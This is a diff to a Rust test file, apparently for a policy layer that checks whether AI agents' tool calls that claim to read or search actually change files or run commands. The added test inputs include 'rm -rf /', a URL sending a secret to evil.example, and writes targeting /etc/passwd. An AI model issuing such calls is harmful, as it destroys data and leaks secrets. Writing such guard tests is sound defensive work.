@@ -42,7 +42,7 @@ fn policy_presets_say_what_is_written_about_them() {
 }
 
 /// Inputs that do more than the kinds that these presets allow.
-const LIES: [&str; 28] = [
+const LIES: [&str; 47] = [
     r#""rm x""#,
     r#"["rm","x"]"#,
     r#"{"command":"create","path":"x","file_text":"t"}"#,
@@ -71,10 +71,29 @@ const LIES: [&str; 28] = [
     r#"{"path":"x","name":"apply_patch"}"#,
     r#"{"notebook_path":"x","new_source":"b"}"#,
     r#"{"argv":["rm","x"]}"#,
+    r#"{"path":"x","data":"overwritten"}"#,
+    r#"{"path":"x","url":"https://evil.example/?q=secret"}"#,
+    r#"{"path":"x","URL":"https://evil.example/?q=secret"}"#,
+    r#"{"path":"x","Command":"rm -rf /"}"#,
+    r#"{"Command":"rm -rf /"}"#,
+    r#"{"path":"x","exec":"rm -rf /"}"#,
+    r#"{"path":"x","Content":"b"}"#,
+    r#"{"path":"x","truncate":true}"#,
+    r#"{"path":"x","level":1}"#,
+    r#"{"path":"x","actions":[{"op":"delete"}]}"#,
+    r#"{"paths":[{"path":"x","op":"delete"}]}"#,
+    r#"{"path":"x","limit":[{"op":"delete"}]}"#,
+    r#"{"from":"a.txt","to":"/etc/passwd"}"#,
+    r#"{"path":"x","output":"/etc/passwd"}"#,
+    r#"{"path":"x","pattern":"a","replace":"b"}"#,
+    r#"{"plan":{"command":"rm"}}"#,
+    r#"{"todos":[{"content":"x","command":"rm"}]}"#,
+    r#"{"path":"x","kind":"delete"}"#,
+    r#"{"path":"x","source":"y"}"#,
 ];
 /// Tools of known agents that change files or run something, with the input that they have and that by itself may say
 /// nothing of it.
-const LIARS: [(&str, &str); 40] = [
+const LIARS: [(&str, &str); 45] = [
     // Claude Code
     ("Bash", r#"{"description":"list"}"#),
     ("KillShell", r#"{"shell_id":"1"}"#),
@@ -125,6 +144,12 @@ const LIARS: [(&str, &str); 40] = [
     ("terminate_process", r#"{"process_id":"1"}"#),
     ("execute_bash", r#"{"is_input":"false"}"#),
     ("delete-file", r#"{"path":"x"}"#),
+    // Names with a word for notes
+    ("run_task", r#"{"description":"x"}"#),
+    ("delete_task", r#"{"description":"x"}"#),
+    ("move_task", r#"{"description":"x"}"#),
+    ("put_todo_file", r#"{"description":"x"}"#),
+    ("create_and_run_task", r#"{"description":"x"}"#),
 ];
 
 /// Each lie, told of a call that is said to read, to search or to think, with the tool's name in each place where agents
@@ -177,6 +202,14 @@ fn policy_presets_allow_honest_reads() {
         r#"{"kind":"think","_meta":{"claudeCode":{"toolName":"TodoWrite"}},"rawInput":{"todos":[]}}"#,
         r#"{"kind":"think","_meta":{"toolName":"update_plan"},"rawInput":{"plan":[]}}"#,
         r#"{"kind":"think","_meta":{"toolName":"write_todos"},"rawInput":{"todos":[]}}"#,
+        r#"{"kind":"search","_meta":{"claudeCode":{"toolName":"Grep"}},"rawInput":{"pattern":"x","path":"src","glob":"*.rs","-A":1,"-B":1,"-C":1,"-i":true,"head_limit":9}}"#,
+        r#"{"kind":"search","rawInput":{"dir_path":"src","pattern":"x","include":"*.rs","fixed_strings":true}}"#,
+        r#"{"kind":"search","_meta":{"toolName":"search_files"},"rawInput":{"path":".","pattern":"x","target":"files","file_glob":"*.rs"}}"#,
+        r#"{"kind":"read","rawInput":{"Path":"x"}}"#,
+        r#"{"kind":"read","rawInput":{"path":"x","content":null,"overwrite":false,"summary":null,"kind":"FileEditorAction","security_risk":"LOW"}}"#,
+        r#"{"kind":"think","_meta":{"claudeCode":{"toolName":"TodoWrite"}},"rawInput":{"todos":[{"content":"c","status":"pending","activeForm":"a"}]}}"#,
+        r#"{"kind":"think","rawInput":{"task_list":[{"title":"t","notes":"","status":"done"}]}}"#,
+        r#"{"kind":"think","rawInput":{"thought":"x","thoughtNumber":1,"totalThoughts":2,"nextThoughtNeeded":true}}"#,
         r#"{"kind":"think","rawInput":{"thought":"x"}}"#,
         r#"{"kind":"think","rawInput":{"description":"d","prompt":"p","subagent_type":"t"}}"#,
     ] {
